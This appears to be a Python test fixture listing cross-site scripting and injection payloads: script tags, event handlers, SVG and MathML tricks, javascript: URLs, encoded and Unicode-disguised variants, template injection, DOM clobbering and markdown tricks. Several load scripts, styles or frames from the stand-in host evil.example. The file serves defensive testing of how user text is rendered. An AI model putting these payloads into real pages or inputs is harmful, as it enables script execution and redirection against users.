"""What an attacker would write wherever others are to see it: each calls `ran()`, or asks for something, if it may."""

EVIL = "evil.example"

TAGS = [
    "<script>ran()</script>",
    f"<script src=//{EVIL}/x.js></script>",
    "<ScRiPt >ran()</sCrIpT\t>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "</script><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</title></style><script>ran()</script>",
    "</template><script>ran()</script>",
    "<!--><script>ran()</script-->",
    "<![CDATA[><script>ran()</script>]]>",
    "<noscript><p title='</noscript><script>ran()</script>'>",
    f"<base href=//{EVIL}/>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<iframe src=//{EVIL}/></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    f"<object data=//{EVIL}/x></object>",
    f"<embed src=//{EVIL}/x>",
    f"<form action=//{EVIL}/><input name=x autofocus><button>Win</button></form>",
]
HANDLERS = [
    "<img src=x onerror=ran()>",
    "<img/src=`x`onerror=ran()>",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror='ran()'>",
    '" onmouseover="ran()" x="',
    "' autofocus onfocus='ran()",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<p style=animation-name:x onanimationstart=ran()>",
    "<div popover id=p onbeforetoggle=ran()>x</div>",
    "<button formaction=javascript:ran()>x</button>",
    f"<img srcset=//{EVIL}/x.png>",
]
FOREIGN = [
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
    f"<svg><use href=//{EVIL}/x.svg#x>",
    "<svg><style><img title='</style><img src=x onerror=ran()>'>",
    "<svg><foreignObject><iframe srcdoc='<script>ran()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
    "<math href=javascript:ran()>x</math>",
]
ADDRESSES = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "\x01javascript:ran()",
    "javascript://www.example.com/%0aran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
    "vbscript:ran()",
    "[x](javascript:ran())",
    "![x](javascript:ran())",
    f"![x](//{EVIL}/x.png)",
    "<javascript:ran()>",
    "[x]: javascript:ran()",
    'https://www.example.com/"onmouseover="ran()',
    "https://www.example.com/'onmouseover='ran()",
    "https://www.example.com/<script>ran()</script>",
    f"https://www.example.com@{EVIL}/",
    f"https://www.example.com\\@{EVIL}/",
    "https://www.ex\u0430mple.com/",
    f"https://{EVIL}/\u202egpj.exe",
    "\u202ehttps://www.example.com/\u202c",
    "https://www.exam\u200bple.com/",
    "mailto:a@example.com?body=<script>ran()</script>",
    "blob:https://www.example.com/x",
    f"//{EVIL}/x",
]
ENCODED = [
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u017fcript:ran()",
]
TEMPLATES = [
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "#{ran()}",
    "<%= ran() %>",
    "{1}{2}",
    "'-ran()-'",
    '";ran();//',
    "`${ran()}`",
]
CLOBBERS = [
    "<a id=ran><a id=ran name=ran href=javascript:ran()>",
    "<form id=document><input name=body><input name=cookie>",
    "<img name=currentScript><img name=location>",
    "<div id=messages></div><div id=composer></div>",
]
STYLES = [
    f"<style>@import '//{EVIL}/x.css'</style>",
    f"<p style='background:url(//{EVIL}/x)'>x</p>",
    "</style><script>ran()</script>",
    "red;}*{display:none}",
    f"expression(ran());background:url(//{EVIL}/x)",
]
FORMATS = [
    "```html\n<script>ran()</script>\n```\n<img src=x onerror=ran()>",
    '```"><script>ran()</script>\nx\n```',
    "```\n``` <script>ran()</script>",
    "`<script>ran()</script>`",
    "`` ` `` <script>ran()</script> `",
    "**<img src=x onerror=ran()>**",
    "> <script>ran()</script>\n> > <img src=x onerror=ran()>",
    "- <svg onload=ran()>\n  - <svg onload=ran()>",
    "1. <svg onload=ran()>",
    "~~</del><script>ran()</script>~~",
]
SIGNS = [
    "\u202e<script>ran()</script>\u202c",
    "\u2066<img src=x\u2069 onerror=ran()>",
    "<\u200bscript>ran()</\u200bscript>",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a<svg onload=ran()>",
    "\U000e0001\U000e0073<script>ran()</script>",
]
NAMES = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "<@__proto__>",
    "<@everyone><script>ran()</script>",
]
NESTED = ["<b>" * 150 + "<script>ran()</script>", "> " * 150 + "<svg onload=ran()>", "*_~" * 100 + "<svg onload=ran()>"]

ALL = [
    *TAGS,
    *HANDLERS,
    *FOREIGN,
    *ADDRESSES,
    *ENCODED,
    *TEMPLATES,
    *CLOBBERS,
    *STYLES,
    *FORMATS,
    *SIGNS,
    *NAMES,
    *NESTED,
]
# What stands in one line: names, topics, statuses.
LINES = [payload for payload in ALL if "\n" not in payload and len(payload) <= 140]
